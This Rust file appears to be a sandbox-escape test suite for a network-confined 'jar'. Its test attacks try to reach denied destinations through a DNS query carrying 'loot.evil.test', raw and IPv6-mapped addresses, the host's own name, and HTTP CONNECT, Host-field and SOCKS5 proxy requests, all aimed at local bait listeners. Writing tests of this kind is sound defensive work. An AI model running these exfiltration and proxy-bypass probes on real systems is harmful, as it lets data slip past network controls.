//! A jar that may reach one name: everything else of the host's network stays closed, by whatever way it is asked for.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream, UdpSocket};

use crate::attack::{Attack, Family, Judge};
use crate::attacks::{raw, relayed};
use crate::judges;
use crate::needs::{HOST_NAME, IPV6};
use crate::stage::Stage;

/// Where the HTTP proxy of a jar is, and the SOCKS5 proxy.
const HTTP: &str = "127.0.0.1:3128";
const SOCKS: &str = "127.0.0.1:1080";

/// A row about a jar that reaches `mirror.test` and its port, which is also that of the bait.
const ROW: Attack = Attack { id: "E6", boxes: &["belljar"], ..Attack::ROW };

pub(super) const FAMILY: Family = Family {
    title: "E6: networks by name",
    rows: &[
        Attack {
            name: "named-datagram",
            what: "sends a query that holds a secret to a name server of its own choice",
            prepare: |stage| {
                let socket = UdpSocket::bind("127.0.0.1:0")?;
                granted(stage, "127.0.0.1", socket.local_addr()?.port());
                judges::udp_unreached(socket)
            },
            attack: |args| {
                let query = b"\0\x01\x01\0\0\x01\0\0\0\0\0\0\x04loot\x04evil\x04test\0\0\x01\0\x01";
                UdpSocket::bind("0.0.0.0:0")?.send_to(query, raw::text(args, 0)?).map(drop)
            },
            ..ROW
        },
        Attack {
            name: "named-address",
            what: "connects to a granted port of an address that no name stands for",
            prepare: |stage| bait(stage, "127.0.0.1"),
            attack: |args| loot(TcpStream::connect(raw::text(args, 0)?)?),
            ..ROW
        },
        Attack {
            name: "named-mapped-address",
            what: "the same with the IPv4 address written in IPv6",
            prepare: |stage| bait(stage, "[::ffff:127.0.0.1]"),
            attack: |args| loot(TcpStream::connect(raw::text(args, 0)?)?),
            needs: &[&IPV6],
            ..ROW
        },
        Attack {
            name: "named-own-machine",
            what: "reaches a service of the host by a granted name that leads to the machine itself",
            prepare: own_machine,
            attack: |args| loot(TcpStream::connect(raw::text(args, 0)?)?),
            needs: &[&HOST_NAME],
            ..ROW
        },
        Attack {
            name: "named-http-proxy",
            what: "asks the HTTP proxy of the jar for an address that is not granted",
            prepare: |stage| proxied(stage, "127.0.0.1"),
            attack: |args| {
                through(HTTP, raw::text(args, 0)?, |to| format!("CONNECT {to} HTTP/1.1\r\n\r\n").into())
            },
            ..ROW
        },
        Attack {
            name: "named-http-proxy-mapped",
            what: "the same with the IPv4 address written in IPv6",
            prepare: |stage| proxied(stage, "[::ffff:127.0.0.1]"),
            attack: |args| {
                through(HTTP, raw::text(args, 0)?, |to| format!("CONNECT {to} HTTP/1.1\r\n\r\n").into())
            },
            needs: &[&IPV6],
            ..ROW
        },
        Attack {
            name: "named-http-host-field",
            what: "asks the HTTP proxy for a denied host and names a granted one in the request's fields",
            prepare: |stage| proxied(stage, "127.0.0.1"),
            attack: |args| {
                let named = raw::text(args, 1)?;
                through(HTTP, raw::text(args, 0)?, |to| {
                    format!("GET http://{to}/loot HTTP/1.1\r\nHost: {named}\r\n\r\n").into()
                })
            },
            ..ROW
        },
        Attack {
            name: "named-socks-proxy",
            what: "asks the SOCKS5 proxy of the jar for an address that is not granted",
            prepare: |stage| proxied(stage, "127.0.0.1"),
            attack: |args| through(SOCKS, raw::text(args, 0)?, socks),
            ..ROW
        },
        relayed::ADDRESS,
        relayed::FAST_OPEN,
        relayed::DATAGRAM,
        relayed::LISTENER,
        relayed::INTERFACES,
        relayed::RACE,
    ],
};

/// The jar reaches `mirror.test`, which leads to an address of nobody, at the port of the bait.
fn granted(stage: &mut Stage, address: &str, port: u16) {
    let named = format!("mirror.test:{port}");
    stage.belljar_flags(&["-n", &named, "--host", "mirror.test=192.0.2.1"]);
    stage.arg(format!("{address}:{port}"));
    stage.arg(named);
}

fn bait(stage: &mut Stage, address: &str) -> io::Result<Judge> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    granted(stage, address, listener.local_addr()?.port());
    judges::tcp_unreached(listener)
}

fn proxied(stage: &mut Stage, address: &str) -> io::Result<Judge> {
    stage.belljar_flags(&["--proxy"]);
    bait(stage, address)
}

fn own_machine(stage: &mut Stage) -> io::Result<Judge> {
    let listener = TcpListener::bind("0.0.0.0:0")?;
    let name = std::fs::read_to_string("/proc/sys/kernel/hostname")?;
    let to = format!("{}:{}", name.trim(), listener.local_addr()?.port());
    stage.belljar_flags(&["-n", &to]);
    stage.arg(&to);
    judges::tcp_unreached(listener)
}

fn loot(mut socket: TcpStream) -> io::Result<()> {
    socket.write_all(b"loot")
}

/// Says `words` to the proxy; where there is none, the way is direct.
fn through(proxy: &str, to: &str, words: impl Fn(SocketAddr) -> Vec<u8>) -> io::Result<()> {
    let address = to.parse().map_err(io::Error::other)?;
    let Ok(mut socket) = TcpStream::connect(proxy) else { return loot(TcpStream::connect(address)?) };
    socket.write_all(&words(address))?;
    if socket.read(&mut [0; 512])? == 0 {
        return Err(io::ErrorKind::ConnectionRefused.into());
    }
    loot(socket)
}

/// A greeting and a request in one.
fn socks(to: SocketAddr) -> Vec<u8> {
    let mut words = vec![5, 1, 0, 5, 1, 0, 1];
    if let SocketAddr::V4(to) = to {
        words.extend(to.ip().octets());
    }
    words.extend(to.port().to_be_bytes());
    words
}
